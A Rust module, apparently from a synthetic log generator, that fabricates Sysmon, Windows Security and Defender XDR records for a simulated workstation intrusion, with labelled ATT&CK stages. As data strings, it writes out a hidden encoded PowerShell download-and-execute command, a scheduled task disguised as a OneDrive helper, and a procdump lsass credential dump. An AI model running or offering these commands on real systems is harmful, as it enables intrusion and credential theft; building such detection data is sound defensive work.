//! The second intrusion: on an ordinary workstation, encoded PowerShell fetches a payload, a
//! scheduled task keeps it, and lsass is dumped. Other person, other host, other address, other
//! tools than in the hybrid intrusion, so that no strong entity is shared.

use super::MINUTE;
use crate::clock::after;
use crate::formats::alerts::{self, Xdr};
use crate::formats::security::{self, Account};
use crate::formats::sysmon::{self, Process, Program, Session};
use crate::streams::{Origin, Streams};
use crate::truth::Stage;
use crate::world::World;

const POWERSHELL: Program = Program {
    image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    description: "Windows PowerShell",
    company: "Microsoft Corporation",
    original: "PowerShell.EXE",
};
const SCHTASKS: Program = Program {
    image: r"C:\Windows\System32\schtasks.exe",
    description: "Task Scheduler Configuration Tool",
    company: "Microsoft Corporation",
    original: "schtasks.exe",
};
const PROCDUMP: Program = Program {
    image: r"C:\ProgramData\pd64.exe",
    description: "Sysinternals process dump utility",
    company: "Sysinternals - www.sysinternals.com",
    original: "procdump",
};
const TASK: &str = r"\OneDrive Sync Helper";

/// Adds the intrusion.
pub(super) fn add(world: &World, streams: &mut Streams) -> Vec<Stage> {
    let mut dice = world.dice("intrusion/second");
    let host = world.workstation(world.cast.second_victim);
    let victim = world.second_victim();
    let user = world.nt_name(victim);
    let ip = world.cast.second_ip.as_str();
    let start = after(world.window.end, -dice.between(130, 190) * MINUTE);
    let task_at = after(start, dice.between(4, 9) * MINUTE);
    let dump_at = after(task_at, dice.between(10, 20) * MINUTE);
    let alert_at = after(dump_at, 3 * MINUTE);
    let who = Account {
        sid: victim.sid.clone(),
        name: victim.sam.clone(),
        domain: world.company.netbios.clone(),
        logon_id: security::logon_id(&mut dice),
    };
    let session = Session {
        logon_id: who.logon_id,
        integrity: "High",
    };
    let put = |streams: &mut Streams, record| streams.windows(Origin::Second, &host.name, record);

    let script = format!("IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a')");
    let command = format!(
        "powershell.exe -NoP -W Hidden -EncodedCommand {}",
        utf16_base64(&script)
    );
    let word = Process::new(
        &mut dice,
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        "WINWORD.EXE /n Invoice.docm",
        &user,
    );
    let shell = Process::new(&mut dice, POWERSHELL.image, &command, &user);
    put(
        streams,
        sysmon::created(start, &host.fqdn, &POWERSHELL, &shell, &word, &session),
    );
    let fetched = after(start, 1_400);
    put(
        streams,
        sysmon::connected(
            fetched,
            &host.fqdn,
            &shell,
            (&host.ip, 51_877),
            (ip, "-", 80),
        ),
    );

    let task = format!(
        r#"schtasks.exe /create /tn "{}" /tr "powershell.exe -w hidden -f C:\ProgramData\s.ps1" /sc onlogon /f"#,
        &TASK[1..]
    );
    let tasks = Process::new(&mut dice, SCHTASKS.image, &task, &user);
    put(
        streams,
        sysmon::created(task_at, &host.fqdn, &SCHTASKS, &tasks, &shell, &session),
    );
    let xml = r#"<?xml version="1.0" encoding="UTF-16"?><Task version="1.2"><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden -f C:\ProgramData\s.ps1</Arguments></Exec></Actions></Task>"#;
    put(
        streams,
        security::task_created(after(task_at, 300), &host.fqdn, &who, TASK, xml),
    );

    let lsass_image = r"C:\Windows\System32\lsass.exe";
    let lsass = Process::new(&mut dice, lsass_image, lsass_image, r"NT AUTHORITY\SYSTEM");
    let dump = r"C:\ProgramData\pd64.exe -accepteula -ma lsass.exe C:\ProgramData\l.dmp";
    let dumper = Process::new(&mut dice, PROCDUMP.image, dump, &user);
    put(
        streams,
        sysmon::created(dump_at, &host.fqdn, &PROCDUMP, &dumper, &shell, &session),
    );
    put(
        streams,
        sysmon::accessed(after(dump_at, 210), &host.fqdn, &dumper, &lsass, 0x1f_ffff),
    );

    let what = Xdr {
        title: "Suspicious PowerShell command line",
        description: "An encoded PowerShell command fetched and ran a script from the internet.",
        category: "Execution",
        techniques: &["T1059.001"],
        image: POWERSHELL.image,
        command_line: &command,
        process_id: shell.id,
        remote_ip: Some(ip),
    };
    let alert = alerts::defender_xdr(
        &mut dice,
        alert_at,
        start,
        &world.company,
        host,
        victim,
        &what,
    );
    streams.defender_xdr.push(Origin::Second, alert_at, alert);
    vec![
        Stage::new(
            "encoded-powershell",
            "Encoded PowerShell fetches a script",
            "Execution",
            "T1059.001",
            &["windows/Sysmon"],
            start,
            fetched,
        ),
        Stage::new(
            "scheduled-task",
            "Scheduled task runs the script at logon",
            "Persistence",
            "T1053.005",
            &["windows/Sysmon", "windows/Security"],
            task_at,
            after(task_at, 300),
        ),
        Stage::new(
            "credential-dump",
            "Memory of lsass written to a file",
            "CredentialAccess",
            "T1003.001",
            &["windows/Sysmon"],
            dump_at,
            after(dump_at, 210),
        ),
        Stage::new(
            "defender-xdr-alert",
            "Native alert about the PowerShell command",
            "Execution",
            "T1059.001",
            &["alerts/defender-xdr"],
            alert_at,
            alert_at,
        ),
    ]
}

/// Encodes text as `-EncodedCommand` wants it: Base64 (RFC 4648 §4) of UTF-16LE.
fn utf16_base64(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let bits = group
            .iter()
            .fold(0u32, |bits, byte| bits << 8 | u32::from(*byte))
            << (8 * (3 - group.len()));
        for place in 0..4 {
            let letter = ALPHABET[(bits >> (18 - 6 * place)) as usize & 63];
            out.push(if place > group.len() {
                '='
            } else {
                char::from(letter)
            });
        }
    }
    out
}
